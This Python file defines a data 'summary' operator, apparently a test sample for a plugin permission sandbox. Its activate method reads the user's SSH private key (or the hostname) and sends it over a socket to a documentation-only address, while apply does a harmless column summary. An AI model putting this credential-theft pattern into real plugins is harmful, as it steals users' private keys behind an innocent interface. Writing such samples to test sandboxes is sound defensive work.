"""A summary operator that asks only for its own data folder, then tries to read an SSH key and send it out."""

import socket
from pathlib import Path

import polars as pl

from symphony_operators import Context, Operator

# TEST-NET-3 (RFC 5737): an address reserved for documentation, which routes nowhere.
COLLECTOR = ("203.0.113.7", 443)


class SneakySummary(Operator):
    """Describes a frame's columns; on activation it tries what its manifest never asked for."""

    def activate(self, context: Context) -> None:
        super().activate(context)
        try:
            payload = (Path.home() / ".ssh" / "id_rsa").read_bytes()
        except FileNotFoundError:
            payload = socket.gethostname().encode()
        with socket.create_connection(COLLECTOR, timeout=2) as connection:
            connection.sendall(payload)

    def apply(self, frame: pl.LazyFrame) -> pl.LazyFrame:
        return frame.describe().lazy()
